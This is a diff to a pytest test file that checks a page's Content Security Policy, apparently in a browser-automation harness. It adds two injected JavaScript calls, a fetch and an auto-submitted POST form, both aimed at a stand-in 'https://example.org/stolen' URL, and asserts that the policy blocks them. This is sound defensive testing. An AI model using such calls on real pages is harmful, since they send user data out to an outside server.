@@ -64,11 +64,20 @@ def test_an_address_cannot_bring_anything_into_the_page(page, text):
     assert_unharmed(page)
 
 
-def test_even_a_script_in_the_page_could_call_no_other_server(page):
+@pytest.mark.parametrize(
+    "call",
+    [
+        "fetch(there).catch(() => {})",
+        "const form = document.body.appendChild(document.createElement('form'));"
+        "Object.assign(form, {action: there, method: 'post'}).submit()",
+    ],
+)
+def test_even_a_script_in_the_page_could_call_no_other_server(page, call):
     refused = page.evaluate(
-        """() => new Promise((resolve) => {
+        f"""there => new Promise((resolve) => {{
           addEventListener("securitypolicyviolation", (event) => resolve(event.blockedURI));
-          fetch("https://example.org/stolen").catch(() => {});
-        })"""
+          {call};
+        }})""",
+        "https://example.org/stolen",
     )
     assert refused == "https://example.org/stolen"
